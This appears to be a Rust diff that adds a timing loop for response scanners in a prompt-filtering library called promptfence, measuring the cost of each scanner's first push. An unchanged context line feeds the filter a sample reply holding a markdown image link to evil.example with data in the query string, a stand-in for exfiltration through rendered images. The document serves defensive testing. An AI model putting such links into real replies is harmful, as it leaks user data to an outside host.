@@ -19,4 +19,24 @@ fn main() {
         "Sure [EMAIL_1], see ![x](https://evil.example/p?d=abc)",
     );
     println!("first screen_response {:?}", t.elapsed());
+    // The first push of each new response scanner (`SCANNERS`, default 3):
+    // callgrind with SCANNERS=1 and 11 gives the cost of ten.
+    let n: usize = std::env::var("SCANNERS")
+        .ok()
+        .and_then(|v| v.parse().ok())
+        .unwrap_or(3);
+    let mut chat = promptfence::PromptFilter::new(&f);
+    for k in 0..n {
+        let mut sc = chat.response_scanner();
+        let t = Instant::now();
+        let out = sc.push(
+            &mut chat.response_context(),
+            "Sure, here is the summary you asked for: ",
+        );
+        let dt = t.elapsed();
+        std::hint::black_box(out);
+        if k < 3 {
+            println!("scanner {k}: first push {dt:?}");
+        }
+    }
 }
